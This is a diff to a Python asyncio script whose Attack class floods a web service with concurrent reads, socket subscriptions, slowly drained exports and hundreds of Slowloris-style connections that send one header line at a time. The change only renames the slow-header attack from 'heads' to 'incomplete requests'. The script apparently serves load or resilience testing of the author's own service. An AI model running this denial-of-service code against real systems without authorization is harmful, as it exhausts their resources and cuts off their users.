@@ -35,7 +35,7 @@ SOCKETS, SUBSCRIPTIONS_PER_SOCKET = 50, 10
 EXPORTS = 10
 EXPORT_PART, EXPORT_INTERVAL = 64 * 1024, 4.0
 """Bytes that the client of an export reads at a time, and the seconds between two reads."""
-HEADS, HEAD_INTERVAL = 500, 4.0
+INCOMPLETE_REQUESTS, HEADER_INTERVAL = 500, 4.0
 """Connections that send one header line at a time, and the seconds between two lines."""
 _PAUSE = 1.0
 """Seconds before an attacker tries again."""
@@ -54,7 +54,7 @@ class Attack:
             "reads": [(self._read, READERS)],
             "subscriptions": [(self._subscribe, SOCKETS), (self._write, 1)],
             "exports": [(self._export, EXPORTS)],
-            "heads": [(self._send_head, HEADS)],
+            "incomplete-requests": [(self._send_incomplete_request, INCOMPLETE_REQUESTS)],
         }
         async with asyncio.TaskGroup() as tasks:
             for kind in kinds:
@@ -124,7 +124,7 @@ class Attack:
             async for _ in response.aiter_bytes(EXPORT_PART):
                 await asyncio.sleep(EXPORT_INTERVAL)
 
-    async def _send_head(self) -> None:
+    async def _send_incomplete_request(self) -> None:
         parts = urlsplit(self._url)
         reader, writer = await asyncio.open_connection(parts.hostname, parts.port)
         try:
@@ -133,7 +133,7 @@ class Attack:
                 writer.write(b"X-Header: value\r\n")
                 await writer.drain()
                 with suppress(TimeoutError):
-                    async with asyncio.timeout(HEAD_INTERVAL):
+                    async with asyncio.timeout(HEADER_INTERVAL):
                         await reader.read(65536)
         finally:
             writer.close()
@@ -173,7 +173,7 @@ def _aliased(field: Callable[[], str]) -> str:
 
 async def _main() -> None:
     url, token, account, kinds = sys.argv[1:]
-    raise_fd_limit(HEADS + SOCKETS + READERS + EXPORTS + 100)
+    raise_fd_limit(INCOMPLETE_REQUESTS + SOCKETS + READERS + EXPORTS + 100)
     attack = Attack(url, token, int(account))
 
     def end() -> None:
